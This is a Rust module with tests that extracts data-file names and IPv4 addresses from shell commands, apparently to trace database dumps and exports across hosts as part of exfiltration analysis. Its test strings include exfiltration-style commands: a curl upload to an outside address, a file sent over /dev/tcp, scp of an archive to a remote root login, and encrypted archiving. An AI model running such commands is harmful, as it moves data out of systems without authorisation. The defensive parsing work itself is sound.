//! What a command line names: data files (`unmapped.files`), by which a dump is followed from the host where it was made to the
//! one where it is read in, and addresses (`unmapped.addresses`), which say where it went.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

/// Names that are returned at most, of one command line.
const NAMES_MAX: usize = 16;
/// Bytes of a name: what a file system takes.
const NAME_BYTES_MAX: usize = 255;

/// What dumps, exports and archives end with.
const DATA: &[&str] = &[
    "sql", "dump", "dmp", "bak", "backup", "bson", "rdb", "ibd", "frm", "mdf", "ldf", "sqlite", "db", "csv", "tsv",
    "xls", "xlsx", "parquet", "avro", "orc", "ndjson", "jsonl", "tar", "tgz", "tbz", "tbz2", "txz", "zip", "7z", "rar",
    "qcow2", "vmdk", "img", "pcap",
];
/// What packing and encrypting appends.
const PACKED: &[&str] = &["gz", "bz2", "xz", "zst", "lz4", "z", "enc", "gpg", "aes", "age"];

/// The names of data files that simple commands ([`super::simple_commands`]) name, without folders; of one that is packed
/// (`crm.sql.gz`) also what it is called unpacked (`crm.sql`). At most 16.
#[must_use]
pub fn data_files(commands: &[String]) -> BTreeSet<String> {
    let mut names = BTreeSet::new();
    for word in commands
        .iter()
        .filter(|c| c.contains('.'))
        .flat_map(|c| c.split_whitespace())
    {
        let Some(name) = data_file(word) else { continue };
        for name in std::iter::successors(Some(name), |name| unpacked(name)) {
            if names.len() >= NAMES_MAX {
                return names;
            }
            names.insert(name.to_owned());
        }
    }
    names
}

/// The IPv4 addresses that simple commands name, other than loopback, in the order of their text. At most 16.
#[must_use]
pub fn addresses(commands: &[String]) -> BTreeSet<String> {
    let words = commands
        .iter()
        .flat_map(|c| c.split(|c: char| !(c.is_ascii_digit() || c == '.')));
    words
        .filter(|word| word.len() >= "0.0.0.0".len())
        .filter_map(|word| word.trim_end_matches('.').parse::<Ipv4Addr>().ok())
        .filter(|address| !address.is_loopback() && !address.is_unspecified())
        .map(|address| address.to_string())
        .take(NAMES_MAX)
        .collect()
}

/// The file's name in a word such as `root@lab-9:/tmp/crm.sql.gz`, `--file=crm.dump` or `'/tmp/c.csv');`.
fn data_file(word: &str) -> Option<&str> {
    let word = word.trim_matches(['\'', '"', '`', '(', ')', ';', ',']);
    let name = word.rsplit(['/', '\\', ':', '=', '@', '<', '>']).next()?;
    let whole = std::iter::successors(Some(name), |name| unpacked(name)).last()?;
    let is_data = |name: &str| stem(name, DATA).is_some();
    (name.len() <= NAME_BYTES_MAX && !name.contains(['*', '?', '$', '{']) && (is_data(whole) || whole != name))
        .then_some(name)
}

/// A packed file's name without what packing appended.
fn unpacked(name: &str) -> Option<&str> {
    stem(name, PACKED)
}

/// What stands before the ending, where it is one of these and something does.
fn stem<'a>(name: &'a str, endings: &[&str]) -> Option<&'a str> {
    let (stem, ending) = name.rsplit_once('.')?;
    (!stem.is_empty() && endings.iter().any(|e| ending.eq_ignore_ascii_case(e))).then_some(stem)
}

#[cfg(test)]
mod tests {
    use super::super::simple_commands;
    use super::*;

    fn check(line: &str, expected: &[&str]) {
        let names = data_files(&simple_commands(line));
        assert_eq!(names.iter().map(String::as_str).collect::<Vec<_>>(), expected, "{line}");
    }

    #[test]
    fn data_files_are_named_without_folders() {
        check("pg_dump -Fc crm -f /backup/crm.dump", &["crm.dump"]);
        check("pg_dump crm > /tmp/crm-0714.sql", &["crm-0714.sql"]);
        check("pg_dump crm | gzip > /tmp/crm.sql.gz", &["crm.sql", "crm.sql.gz"]);
        check("scp /tmp/a.tgz root@lab-9:/tmp/b.tgz", &["a.tgz", "b.tgz"]);
        check("mysqldump --result-file=crm.SQL crm", &["crm.SQL"]);
        check("psql -c \"\\copy customer to '/tmp/c.csv' csv\"", &["c.csv"]);
        check("select * from t into outfile '/tmp/t.csv';", &["t.csv"]);
        check(
            "openssl enc -aes256 -in d.tar.gz -out d.tar.gz.enc",
            &["d.tar", "d.tar.gz", "d.tar.gz.enc"],
        );
        check("gunzip notes.gz", &["notes", "notes.gz"]);
        check("impdp system directory=d dumpfile=crm.dmp", &["crm.dmp"]);
    }

    #[test]
    fn other_words_are_none() {
        check("cat /etc/hosts.allow; ls -la; vim app.conf", &[]);
        check("curl https://www.example.com/index.html", &[]);
        check("ls *.sql; rm $F.sql; echo .sql .gz", &[]);
        check("systemctl restart crm.service", &[]);
    }

    #[test]
    fn addresses_are_named_wherever_they_stand() {
        let check = |line: &str, expected: &[&str]| {
            let found = addresses(&simple_commands(line));
            assert_eq!(found.iter().map(String::as_str).collect::<Vec<_>>(), expected, "{line}");
        };
        check("scp /tmp/a b@10.8.1.9:/tmp/", &["10.8.1.9"]);
        check("curl -T a http://203.0.113.7:8080/x", &["203.0.113.7"]);
        check("cat a > /dev/tcp/10.8.1.9/443", &["10.8.1.9"]);
        check("mysql --host=10.8.1.9; ping 10.8.1.10.", &["10.8.1.10", "10.8.1.9"]);
        check("curl 127.0.0.1; nc -l 0.0.0.0; v 1.2.3; x 300.1.2.3", &[]);
    }

    #[test]
    fn bounds_hold() {
        let many: Vec<String> = (0..100).map(|n| format!("gzip a{n}.csv.gz")).collect();
        assert_eq!(data_files(&many).len(), NAMES_MAX);
        assert!(data_files(&[format!("zip {}.zip", "x".repeat(300))]).is_empty());
        let nested = format!("a{}", ".gz".repeat(80));
        assert_eq!(data_files(&[nested]).len(), NAMES_MAX);
    }
}
